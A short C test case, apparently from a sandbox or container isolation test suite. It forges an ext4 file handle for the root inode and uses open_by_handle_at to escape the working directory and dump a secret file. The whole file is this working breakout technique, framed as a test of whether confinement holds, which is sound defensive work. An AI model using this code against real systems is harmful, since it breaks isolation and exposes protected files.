#include "attack.h"
// The same with a made-up handle of ext4: inode number of the root directory, then down to the file.
ATTACK(.judge = "secret:file", .needs = "root") {
  struct { struct file_handle h; uint32_t inode[2]; } h = {.h = {.handle_bytes = 8, .handle_type = 1}, .inode = {2, 0}};
  int here = open(arg("work"), O_RDONLY | O_DIRECTORY), root = open_by_handle_at(here, &h.h, O_RDONLY | O_DIRECTORY);
  if (root < 0) return note("open_by_handle_at");
  if (dump(openat(root, arg("secret") + 1, O_RDONLY)) < 0) note("openat");
}
